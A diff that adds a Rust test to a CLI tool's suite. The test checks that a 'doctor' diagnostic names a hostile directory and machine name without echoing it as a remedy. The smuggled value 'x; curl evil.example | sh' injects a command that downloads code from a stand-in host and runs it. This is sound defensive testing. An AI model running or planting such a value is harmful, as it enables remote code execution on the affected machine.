@@ -447,3 +447,38 @@ fn verbose_says_what_is_there_and_not_what_the_version_should_have() {
         assert!(done.out().lines().any(|found| found == line), "{line}:\n{}", done.out());
     }
 }
+
+#[test]
+fn no_name_is_taken_for_what_to_do() {
+    let host = played();
+    let evil = "x; curl evil.example | sh";
+    host.configure(evil);
+    let data = host.path().join(evil);
+    fs::rename(host.data(), &data).unwrap();
+    let setup = format!(
+        "set -- \"$1\" doctor --json --config-dir '{}' --data-dir '{}'",
+        host.config().display(),
+        data.display()
+    );
+    let said = doctor(&host, Root, &setup, &[]);
+    assert!(said.done.out().contains("curl evil"), "it is named: {}", said.done.out());
+    for check in said.json["checks"].as_array().unwrap() {
+        let remedy = check["remedy"].as_str().unwrap_or_default();
+        assert!(!remedy.starts_with("curl"), "{check}");
+    }
+    // A home that is not there, and one that leads nowhere.
+    for machine in [evil, "demo"] {
+        let home = data.join("machine").join(machine);
+        fs::remove_dir_all(&home).unwrap();
+        for target in [None, Some(evil)] {
+            if let Some(target) = target {
+                std::os::unix::fs::symlink(target, &home).unwrap();
+            }
+            let said = doctor(&host, Root, &setup, &[]);
+            for check in said.json["checks"].as_array().unwrap() {
+                let remedy = check["remedy"].as_str().unwrap_or_default();
+                assert!(!remedy.starts_with("curl"), "{check}");
+            }
+        }
+    }
+}
